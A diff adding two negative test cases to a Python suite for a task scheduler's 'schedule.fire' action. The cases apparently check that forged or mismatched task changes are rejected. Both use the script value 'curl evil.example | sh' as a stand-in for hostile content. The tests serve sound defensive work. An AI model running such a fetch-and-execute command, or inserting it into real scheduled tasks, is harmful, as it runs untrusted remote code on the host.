@@ -75,6 +75,21 @@ def a_priority_that_the_template_does_not_have(h):
     h.fraud(fire(h, newest(h), newest(h), priority=9))
 
 @fraud("schedule.fire", grid="schedules")
+def another_script_that_does_not_say_whose_it_is(h):
+    step = fire(h, newest(h), newest(h), script="curl evil.example | sh")
+    del step.changes[task_of(h, newest(h))[0]]["schedule"]
+    h.fraud(step)
+
+@fraud("schedule.fire", grid="schedules")
+def a_task_in_other_letters_in_place_of_the_one_that_is_due(h):
+    step = fire(h, newest(h))
+    path, doc = task_of(h, newest(h), script="curl evil.example | sh")
+    del doc["schedule"]
+    doc["task_id"] = doc["task_id"].upper()
+    step.changes[f"{Q}{doc['task_id']}.json"] = doc
+    h.fraud(step)
+
+@fraud("schedule.fire", grid="schedules")
 def last_moved_backward(h):
     h.fraud(fire(h, newest(h) - 9 * TEN))
 
